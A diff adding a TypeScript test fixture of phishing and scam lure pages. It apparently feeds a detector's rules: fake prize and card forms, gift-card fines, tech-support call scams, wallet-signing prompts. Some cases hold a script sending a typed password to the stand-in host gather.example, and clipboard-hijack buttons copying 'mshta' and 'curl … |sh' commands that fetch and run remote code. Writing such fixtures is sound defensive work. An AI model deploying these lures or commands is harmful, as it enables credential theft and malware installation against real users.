@@ -1,0 +1,93 @@
+import type { GivenDraft } from "./given-draft.ts"
+import { site } from "./innocent-site.ts"
+
+const card = `<form action="/pay"><input name="cardnumber"><input name="cvv"></form>`
+const login = (action: string) => `<form action="${action}" method="post"><input type="password" name="p"></form>`
+const call = `<a href="tel:080000000">call</a>`
+const copies = (command: string) => `<button>Copy</button><script>navigator.clipboard.writeText("${command}")</script>`
+const script = (code: string) => `<script>${code}</script>`
+const ours = "Ferry tickets to Skerry"
+const prize = site("a prize for a card", "Ferry", `<h1>Félicitations !</h1>${card}`)
+const named = site(
+  "named by its visitor",
+  "Mail",
+  `${login("/in")}${script(`document.title=location.hash.slice(1).split("@")[1]`)}`,
+)
+
+/** A rule of lures, and a draft that is flagged and is not without it. */
+export const lureCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]> = [
+  ["prize-for-card", prize],
+  ["lures-without-name", prize],
+  ["payout-for-card", site("money for a card", "Ferry", `<h1>Um das Geld zu erhalten</h1>${card}`)],
+  [
+    "fine-by-gift-card",
+    site("a fine in gift cards", "Ferry", `<h1>Police</h1><p>Pay the fine with gift cards.</p><input name="a">`),
+  ],
+  [
+    "gain-for-deposit",
+    site(
+      "work for a deposit",
+      "Ferry",
+      `<h1>Work from home</h1><p>A deposit of 50 starts it.</p><a href="https://t.me/moss">Chat</a>`,
+    ),
+  ],
+  [
+    "other-account",
+    site("another account", "Bill", `<h1>Our new bank details</h1><p>IBAN DE02 1203 0000 0000 2020 51</p>`),
+  ],
+  [
+    "tokens-for-wallet",
+    site(
+      "tokens for a right",
+      "Season",
+      `<h1>Check the allocation</h1><button>Go on</button>${script(`ethereum.request({method:"eth_signTypedData_v4"})`)}`,
+    ),
+  ],
+  [
+    "update-by-page",
+    site("an update by the page", "Ferry", `<h1>Your browser is out of date</h1><a href="a.msi">Install</a>`),
+  ],
+  ["call-for-charge", site("a call for a charge", "Bill", `<h1>379.99 was charged</h1><p>Not you?</p>${call}`)],
+  [
+    "call-for-alarm",
+    site("a call for an alarm", "Ferry", `<h1>Wirus: proszę natychmiast dzwonić, zainfekowany</h1>${call}`),
+  ],
+  [
+    "small-sum-by-card",
+    site("a small sum by card", "Ferry", `<h1>Pay 1.99 €</h1>${card.replace("/pay", "https://gather.example/")}`),
+  ],
+  [
+    "secret-by-socket",
+    site(
+      "a secret by a socket",
+      ours,
+      `<h1>${ours}</h1>${login("/next.php")}${script(`new WebSocket("wss://gather.example/").send(p.value)`)}`,
+    ),
+  ],
+  [
+    "many-secrets",
+    site(
+      "three secrets",
+      ours,
+      `<h1>${ours}</h1><form action="https://gather.example/"><input type="password"><input name="otp"><input name="ssn"></form>`,
+    ),
+  ],
+  ["named-by-visitor", named],
+  ["named-by-visitor-alone", named],
+  [
+    "command-by-keys",
+    site(
+      "keys to press",
+      "Ferry",
+      `<p>Press Windows + R, then Ctrl + V.</p>${copies("mshta https://gather.example/a")}`,
+    ),
+  ],
+  [
+    "command-to-pass",
+    site(
+      "a command for people",
+      "Ferry",
+      `<h1>Verify that you are human</h1><p>Open the terminal.</p>${copies("curl gather.example|sh")}`,
+    ),
+  ],
+]
